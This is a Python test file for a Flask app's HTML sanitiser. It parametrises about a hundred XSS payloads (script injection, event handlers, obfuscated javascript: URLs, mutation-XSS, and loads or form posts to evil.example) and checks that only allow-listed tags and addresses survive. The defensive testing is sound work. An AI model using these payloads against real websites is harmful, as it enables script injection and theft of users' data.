"""Hostile rich text, on write and on read: whatever is sent, only what is allowed remains."""

from __future__ import annotations

import re
import warnings
from time import process_time
from xml.etree.ElementTree import Element

import html5lib
import pytest
from flask import Flask

from flask_initiatieven import rich_text
from flask_initiatieven.rich_text import clean, to_html, to_typed
from flask_initiatieven.vision.models import Page
from tests.conftest import PageClient, inside
from tests.vision.conftest import version

ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in ("p", "br", "strong", "em", "ul", "ol", "li", "h2", "h3", "h4")},
    "a": {"href", "rel"},
    "img": {"src", "alt", "width", "height", "loading"},
}
ADDRESS = re.compile(r"(https?://[^/]|mailto:|tel:|intern:/|/initiatieven/)[^\s\"'<>\\]*\Z")
PICTURE = re.compile(r"(beeld:\d+|/initiatieven/visie/[\w-]+/afbeeldingen/\d+/\w+)\Z")

ATTACKS = [
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<script>/*</script><svg onload=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "</script><script>alert(1)",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src='beeld:1' onerror='alert(1)' onload=alert(2)>",
    "<img/src=beeld:1/onerror=alert(1)>",
    '<img src="beeld:1" alt=""><p onclick=alert(1)>" onmouseover="alert(1)"',
    '<img src="beeld:1" alt="&quot; onerror=&quot;alert(1)">',
    "<img src=beeld:1 alt='x\" onerror=\"alert(1)'>",
    "<img src=beeld:1 alt=`x` onerror=alert(1)>",
    "<p onmouseover=alert(1) onfocus=alert(2) autofocus tabindex=1>a</p>",
    "<a href='https://e.nl' onclick='alert(1)'>a</a>",
    "<a href='https://e.nl\"onclick=\"alert(1)'>a</a>",
    "<a href=https://e.nl'onclick='alert(1)>a</a>",
    "<body onload=alert(1)><p>a",
    "<details open ontoggle=alert(1)>a</details>",
    "<input autofocus onfocus=alert(1)><textarea onfocus=alert(1)>a</textarea>",
    "<marquee onstart=alert(1)>a</marquee><video><source onerror=alert(1)></video>",
    "<p ONCLICK\n=\nalert(1)>a</p>",
    "<p \x0conclick=alert(1)>a</p>",
    # schemes
    "<a href=javascript:alert(1)>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href=' javascript:alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='java\nscript:alert(1)'>a</a>",
    "<a href='java\x00script:alert(1)'>a</a>",
    "<a href='\x01javascript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>a</a>",
    "<a href='&#0000106avascript&#58;alert(1)'>a</a>",
    "<a href='javascript&Tab;:alert(1)'>a</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href='blob:https://e.nl/1'>a</a><a href='file:///etc/passwd'>b</a><a href='about:blank'>c</a>",
    "<a href='//evil.example'>a</a><a href='\\\\evil.example'>b</a><a href='/\\evil.example'>c</a>",
    "<a href='http:evil.example'>a</a><a href='https:/evil.example'>b</a>",
    "<a href='intern:javascript:alert(1)'>a</a>",
    "<a href='intern:/../../uitloggen'>a</a>",
    "<a href='https://e.nl' href='javascript:alert(1)'>a</a>",
    "<a xlink:href='javascript:alert(1)' xmlns:xlink='x'>a</a>",
    "<a href='https://e.nl/\u202egnp.exe'>a</a>",
    # images
    "<img src=https://evil.example/spion.gif alt=x>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "<img src=beeld:1x><img src=beeld:-1><img src='beeld:1/../2'><img src='beeld:9999999999'>",
    "<img src=beeld:1 srcset='https://evil.example/x 1x' style='position:fixed' width=9999>",
    "<img src=javascript:alert(1)><image src=x onerror=alert(1)><picture><source srcset=x></picture>",
    "<img src='/initiatieven/visie/x/afbeeldingen/1/../../../uitloggen'>",
    # style, class, id, data
    "<p style='background:url(javascript:alert(1))' class=x id=ini-heading data-x=1 lang=x dir=rtl>a</p>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>a",
    "<link rel=stylesheet href=https://evil.example/x.css>a",
    '<p style="width:expression(alert(1));-moz-binding:url(x)">a</p>',
    "<font color=red size=7 face='x'>a</font><center>b</center>",
    "<a name=x id=y href='https://e.nl'>a</a><p id=__proto__ name=getElementById>b</p>",
    # frames, forms, foreign content
    "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf><embed src=x.swf></object><applet code=x></applet>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>a",
    "<form action=https://evil.example><form><input name=csrf_token><button formaction=javascript:alert(1)>a</form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg><svg><animate onbegin=alert(1)></svg>",
    "<svg><foreignObject><p>a<iframe src=x></foreignObject></svg>b",
    "<math><mtext><p>a<img src=x onerror=alert(1)></mtext></math>",
    # mutation: HTML that changes when it is parsed twice
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script><p>a</p></template>",
    '<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>',
    '<noembed><p title="</noembed><img src onerror=alert(1)>">',
    '<title><p title="</title><img src onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src onerror=alert(1)>">',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
    "<plaintext><p>a<script>alert(1)",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--><!--- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>a",
    "<![if gte mso 9]><script>alert(1)</script><![endif]>a",
    "<o:p style='x'><v:shape onload=alert(1)>a</v:shape></o:p>",
    # unclosed, odd, empty
    "<p><strong>never closed",
    "<a href='https://e.nl'><a href='https://e.nl/2'>a</a>",
    "<p title='never closed>a</p><script>alert(1)</script>",
    "<p title=\"a>b\" onclick='alert(1)'>c</p>",
    "< script>alert(1)</ script>",
    "<p<p<p onclick=alert(1)>a",
    "</p></div></body></html><p>a",
    "\x00<\x00p\x00>\x00a\x00",
    "\ud800<p>\udfff a</p>",
    "<p>\u202e\u2066\u200b\ufeff a</p>",
    "<\uff53cript>alert(1)</\uff53cript>\uff1cscript\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7*7 }}{% raw %}<p>{{ config }}</p>",
    "<ul>" * 500 + "a" + "</ul>" * 500,
    "<b><i><u><p>" * 500 + "a",
    "<table><tr><td>" * 500 + "a",
    "<div>" * 5000 + "<script>alert(1)</script>",
]


def faults(rich: str) -> list[str]:
    """What an HTML parser finds in it that is not allowed."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        tree: Element = html5lib.parseFragment(rich, namespaceHTMLElements=True)
    found = []
    for element in list(tree.iter())[1:]:
        tag = str(element.tag).removeprefix("{http://www.w3.org/1999/xhtml}")
        if tag not in ALLOWED:
            found.append(f"<{tag}>")
            continue
        found += [f"{tag} {name}" for name in element.attrib if name not in ALLOWED[tag]]
        if tag == "a" and not ADDRESS.match(element.get("href", "")):
            found.append(f"href {element.get('href')}")
        if tag == "img" and not PICTURE.match(element.get("src", "")):
            found.append(f"src {element.get('src')}")
    return found


def test_there_are_attacks_enough() -> None:
    assert len(set(ATTACKS)) >= 100


@pytest.mark.parametrize("attack", ATTACKS)
def test_only_what_is_allowed_is_written(attack: str) -> None:
    written = clean(attack, ("/initiatieven",))
    assert faults(written) == []
    assert clean(written) == written
    assert to_html(to_typed(written)) == written


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_typed_can_do_no_more(attack: str) -> None:
    assert faults(to_html(f"{attack}\n\n- {attack}\n\n[a]({attack}) **{attack}** ![a]({attack})")) == []


def test_only_what_is_allowed_is_read_whatever_stands_in_the_database(app: Flask) -> None:
    """As if somebody had written it past us: all attacks in one page, read by a reader."""
    stored = "".join(f"<p>{attack.replace(chr(0), '').encode('utf-8', 'ignore').decode()}</p>" for attack in ATTACKS)
    with inside(app):
        page: Page = Page.create(key="visie")
        for number, name in enumerate(("text", "why", "vision", "if_no", "contact")):
            version(page, number, state="replaced", **{name: stored})
    client = app.test_client()
    assert isinstance(client, PageClient)
    client.person = "bob"
    for number in range(5):
        text = client.get(f"/initiatieven/visie/visie/versie/{number}").text
        parts = re.findall(r'<div class="ini-rich">(.*?)</div>', text, re.DOTALL)
        assert parts
        assert [fault for part in parts for fault in faults(part)] == []


@pytest.mark.parametrize(
    "piece",
    ["<b a=1><p>", "<ul><li>", "<", "<!--", "<a '>", "&", "&#1", "<table><tr><td>", "</b>x", "<br>x<br><br>", "[",
     "**a", "[a](b", "](", "![a](beeld:1)", "\\", "  - a\n"],
)  # fmt: skip
def test_a_megabyte_takes_seconds_not_minutes(piece: str) -> None:
    hostile = piece * (1_000_000 // len(piece))
    began = process_time()
    clean(hostile)
    to_html(hostile)
    assert process_time() - began < 8


def test_what_a_field_refuses_is_less_than_what_is_read() -> None:
    assert rich_text.LONGEST >= 5 * 20_000
